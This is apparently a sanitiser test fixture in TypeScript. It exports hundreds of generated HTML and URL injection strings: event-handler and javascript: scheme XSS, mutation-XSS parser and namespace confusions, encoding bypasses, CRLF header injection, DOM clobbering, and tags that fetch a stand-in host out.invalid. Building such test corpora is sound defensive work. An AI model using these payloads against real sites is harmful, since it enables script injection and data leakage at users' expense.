// Texts that try to become code, or a request, in a page. `trap` is what they call; out.invalid is where they would lead. One
// for each class that the HTML5 security cheat sheet and the tests of sanitisers name, in many spellings.

const call = 'trap(1)'
const outside = 'http://out.invalid/x'

const tags =
  'script img svg math iframe object embed video audio body form input button details marquee style link meta base template noscript xmp plaintext textarea title select table frameset isindex keygen a div x p li blockquote h2 figure td'.split(
    ' ',
  )

const ofTags = tags.flatMap((tag) => [
  `<${tag} src=x href=x onerror=${call} onload=${call}>a</${tag}>`,
  `<${tag}/onload="${call}"/src="${outside}">`,
  `<${tag} style="background:url(${outside})" id=x class=y>b`,
  `<${tag} \n onfocus=${call} autofocus tabindex=1>`,
])

const events =
  'onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onscroll oncut onbeforeinput'.split(
    ' ',
  )

const ofEvents = events.flatMap((event) => [
  `<img src=x ${event}=${call}>`,
  `<details open ${event}=${call}>`,
  `" ${event}=${call} x="`,
])

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6a;avascript:',
  'javascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'blob:',
  'filesystem:',
  '//out.invalid/',
  '\\\\out.invalid\\',
  'htt&#112;://out.invalid ',
  'feed:javascript:',
  'view-source:',
]

const ofSchemes = schemes.flatMap((scheme) => [
  scheme + call,
  `<a href="${scheme}${call}">c</a>`,
  `<img src="${scheme}${call}">`,
  `<form action="${scheme}${call}"><input type=submit></form>`,
])

// What one parser reads differently from the next.
const ofParsers = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trap(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=trap(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=trap(1)>">',
  '<xmp><img src=x onerror=trap(1)></xmp>',
  '<textarea></textarea><script>trap(1)</script>',
  '<textarea>&lt;/textarea&gt;&lt;script&gt;trap(1)&lt;/script&gt;</textarea>',
  '<option><style></option></select><img src=x onerror=trap(1)></style>',
  '<template><script>trap(1)</script></template>',
  '<<script>trap(1)//<</script>',
  '<scr<script>ipt>trap(1)</scr</script>ipt>',
  '<img src="x` `<script>trap(1)</script>"` `>',
  '<!--><img src=x onerror=trap(1)>-->',
  '<![CDATA[<img src=x onerror=trap(1)>]]>',
  '<?xml-stylesheet href="javascript:trap(1)"?>',
  '</script><script>trap(1)</script>',
  '</title><script>trap(1)</script>',
  '</style><script>trap(1)</script>',
  ']]><script>trap(1)</script>',
  '{"@context":"</script><script>trap(1)</script>"}',
  '<svg><animate onbegin=trap(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:trap(1)><a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=trap(1)>#x">',
  '<svg><foreignObject><body onload=trap(1)>',
  '<iframe srcdoc="<script>parent.trap(1)</script>">',
  '<object data="data:text/html,<script>trap(1)</script>">',
  '<p style="width:expression(trap(1))">',
  '{{constructor.constructor("trap(1)")()}}',
  '${trap(1)}',
]

// What runs nothing and tells somebody all the same, or stands in the place of something.
const ofRequests = [
  `<img srcset="${outside} 1x">`,
  `<img src="/blog/images/00000000-0000-0000-0000-000000000000-1.webp" srcset="${outside} 1x">`,
  `<link rel=prefetch href=${outside}>`,
  `<meta http-equiv=refresh content="0;url=${outside}">`,
  `<video poster=${outside}>`,
  `<input type=image src=${outside}>`,
  `<body background=${outside}>`,
  `<table background=${outside}>`,
  `<style>@import '${outside}'</style>`,
  `<a href="https://x" target=_blank ping="${outside}">p</a>`,
  '<a href="//out.invalid">x</a>',
  '<a id=location name=cookie>clobber</a>',
  '<form id=document><input name=cookie>',
  `![x](${outside})`,
  `url(${outside})`,
]

// Trees that change when they are read again: text of one namespace is markup of another.
const ofNamespaces = [
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap(1)>',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=trap(1)">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=trap(1)></style></annotation-xml></math>',
  '<math><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=trap(1)>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=trap(1)>">',
  '<svg><style><img src=x onerror=trap(1)></style></svg>',
  '<svg><title><style><a title="</style><img src=x onerror=trap(1)>">',
  '<svg><desc><template><img src=x onerror=trap(1)></template></desc></svg>',
  '<math><mi><noscript></mi><img src=x onerror=trap(1)></noscript>',
  '<svg><![CDATA[><img src=x onerror=trap(1)>]]></svg>',
  '<table><td><math><mtext></td></table><img src=x onerror=trap(1)>',
  '<select><template><style></select><img src=x onerror=trap(1)></style></template>',
  '<select><iframe></select><img src=x onerror=trap(1)></iframe>',
  '<noembed><img title="</noembed><img src onerror=trap(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=trap(1)>"></noframes>',
  '<listing>&lt;img src onerror=trap(1)&gt;</listing>',
  '<div><template shadowrootmode=open><img src=x onerror=trap(1)></template></div>',
  '<!--!> <img src=x onerror=trap(1)> --!>',
  '<!-- --!><img src=x onerror=trap(1)>-->',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=trap(1)>">]>&y;',
  '</p/x=y><img/src/onerror=trap(1)>',
  '<p id="\u0000"><img\u0000 src=x onerror=trap(1)>',
  `${'<div>'.repeat(600)}<img src=x onerror=trap(1)>`,
  `${'<b><i><a>'.repeat(200)}<table><img src=x onerror=trap(1)>`,
]

// Letters that become others: in lower case, in another encoding, or where a parser leaves them out.
const ofLetters = [
  '<ſcript>trap(1)</ſcript>',
  '<ımg src=x onerror=trap(1)>',
  '\uff1cscript\uff1etrap(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-trap(1)+ADw-/script+AD4-',
  '%3Cscript%3Etrap(1)%3C/script%3E',
  '\\u003cscript\\u003etrap(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=trap(1)\\x3e',
  '&lt;img src=x onerror=trap(1)&gt;',
  '&amp;lt;img src=x onerror=trap(1)&amp;gt;',
  '&#60;img src=x onerror=trap(1)&#62;',
  '&#x3C&#x69&#x6d&#x67 src=x onerror=trap(1)>',
  '<a href="javaſcript:trap(1)">s</a>',
  '<a href="\u00a0javascript:trap(1)">n</a>',
  '<a href="\ufeffjavascript:trap(1)">b</a>',
  '<a href="&Tab;java&NewLine;script&colon;trap&lpar;1&rpar;">e</a>',
  '<a href="data:text/xml,<x:script xmlns:x=\'http://www.w3.org/1999/xhtml\'>trap(1)</x:script>">x</a>',
  '\u2028</script><script>trap(1)</script>\u2029',
  '\ud800<img src=x onerror=trap(1)>\udfff',
  '\u202e>(1)part=rorreno x=crs gmi<',
  '\r\nLocation: http://out.invalid/\r\n\r\n<script>trap(1)</script>',
  '\r\n.\r\nMAIL FROM:<trap@out.invalid>',
]

// What newer browsers run or ask for.
const ofNewer = [
  `<script type=speculationrules>{"prefetch":[{"urls":["${outside}"]}]}</script>`,
  '<script type=importmap>{"imports":{"x":"data:text/javascript,trap(1)"}}</script>',
  ...[
    'dns-prefetch',
    'preconnect',
    'preload',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
    'stylesheet',
  ].map((rel) => `<link rel=${rel} as=image href="${outside}">`),
  `<a href=# attributionsrc="${outside}">a</a><img attributionsrc="${outside}" src=x>`,
  `<img sizes=auto loading=lazy srcset="${outside} 1w, ${outside}?2 2w">`,
  `<picture><source srcset="${outside}"><img src=x></picture>`,
  `<video><track default src="${outside}"><source src="${outside}"></video>`,
  `<p style="background:image-set(url(${outside}) 1x)">i</p>`,
  `<style>p{background:url(${outside})}@font-face{font-family:x;src:url(${outside})}p{font-family:x}</style>`,
  `<style>input[value^=a]{list-style:url(${outside}?a)}</style>`,
  `<svg><image href="${outside}" /><feImage xlink:href="${outside}" /></svg>`,
  `<fencedframe config=x></fencedframe><portal src="${outside}"></portal>`,
  `<frameset><frame src="${outside}"></frameset>`,
  `<base href="${outside}"><a href=x>base</a>`,
  `<meta http-equiv=content-security-policy content="default-src *"><meta name=referrer content=unsafe-url>`,
  `<bgsound src="${outside}"><embed src="${outside}"><html manifest="${outside}">`,
  '<button popovertarget=p>o</button><div popover id=p onbeforetoggle=trap(1)>p</div>',
  '<div hidden=until-found onbeforematch=trap(1)>found</div>',
  '<div style="content-visibility:auto" oncontentvisibilityautostatechange=trap(1)>v</div>',
  '<input type=hidden accesskey=x onclick=trap(1)><input onsearch=trap(1) type=search autofocus onfocus=trap(1)>',
  '<body onpageshow=trap(1) onhashchange=trap(1) onunhandledrejection=trap(1)>',
  '<video src=x onloadstart=trap(1) onerror=trap(1)><audio src=x oncanplay=trap(1) onerror=trap(1)>',
  '<marquee onstart=trap(1)>m</marquee><p ontransitionend=trap(1) onwebkitanimationend=trap(1)>t',
  '<img name=body><img name=querySelector><form name=forms><input name=action><input id=attributes></form>',
  '<a id=trap href="cid:x">c</a><a id=trap name=toString href="javascript:trap(1)">d</a>',
  '<object type="text/x-scriptlet" data="data:text/html,<script>trap(1)</script>"></object>',
  '<script src="data:,trap(1)"></script><script src="blob:http://own.test/1"></script>',
  '<a href="#" onclick="trap(1)" oncontextmenu="trap(1)">e</a><a href="/\\out.invalid/">r</a>',
  '<a href="/.//out.invalid/">dots</a><a href="/%09/out.invalid">tab</a><a href="https:out.invalid">bare</a>',
]

export const injectionVectors: readonly string[] = [
  ...ofNamespaces,
  ...ofLetters,
  ...ofNewer,
  ...ofTags,
  ...ofEvents,
  ...ofSchemes,
  ...ofParsers,
  ...ofRequests,
]
